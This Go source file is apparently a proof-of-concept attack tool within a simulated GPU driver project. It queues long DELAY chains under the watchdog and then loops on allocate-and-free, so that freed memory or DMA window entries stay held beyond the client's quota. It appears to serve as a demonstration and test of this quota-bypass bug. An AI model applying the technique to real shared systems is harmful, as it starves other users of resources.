// Attack: hold far more than a quota by freeing behind queued work.
//
// FREE and HOST_UNREGISTER refund the client's quota at once
// (server/client.go: free, hostUnregister), but the driver keeps the
// memory (driver/deferred.go) or the DMA window entry (driver/pinned.go,
// retiring) until every command queued before the free has run. A
// stranger that keeps a chain of DELAYs queued — each under the watchdog
// — and then allocates and frees in a loop holds memory and window
// entries the quota has already given back to it.
//
// usage: deferhog -node PATH [-mode mem|window] [-chunk BYTES] [-delays N]
package main

import (
	"errors"
	"flag"
	"fmt"
	"os"
	"time"

	"softgpu/stage9-chardev/client"
	"softgpu/stage9-chardev/uapi"
)

func main() {
	node := flag.String("node", "", "the node")
	mode := flag.String("mode", "mem", "mem: ALLOC/FREE; window: HOST_REGISTER/HOST_UNREGISTER; delay: only queue the DELAYs, allocate nothing")
	chunk := flag.Uint64("chunk", 1<<20, "bytes per ALLOC")
	delays := flag.Int("delays", 100, "DELAYs of 1.5 s queued on each engine (each under the 2 s watchdog)")
	hold := flag.Duration("hold", time.Hour, "how long to hold it")
	flag.Parse()
	g, err := client.Dial(*node)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	for _, e := range []client.Engine{client.Copy, client.Compute} {
		b := g.NewBatch(e)
		for i := 0; i < *delays; i++ {
			b.Delay(1_500_000_000)
		}
		if _, err := b.Submit(); err != nil {
			fmt.Fprintln(os.Stderr, "submit:", err)
			os.Exit(2)
		}
	}
	var total uint64
	n := 0
	for *mode != "delay" {
		var err error
		if *mode == "mem" {
			var p client.Ptr
			p, err = g.Alloc(*chunk)
			if err == nil {
				err = g.Free(p)
				if err != nil {
					fmt.Println("FREE failed:", err)
					break
				}
				total += *chunk
			}
		} else {
			var h *client.HostBuffer
			h, err = g.HostAlloc(4096)
			if err == nil {
				if err = g.HostFree(h); err != nil {
					fmt.Println("HostFree failed:", err)
					break
				}
				total++
			}
		}
		if err != nil {
			var e uapi.Errno
			errors.As(err, &e)
			fmt.Printf("refused after %d cycles (%d %s freed but held by the daemon): errno=%d (%v)\n", n, total, map[string]string{"mem": "bytes", "window": "window entries"}[*mode], uint32(e), err)
			break
		}
		n++
	}
	fmt.Println("holding")
	time.Sleep(*hold)
}
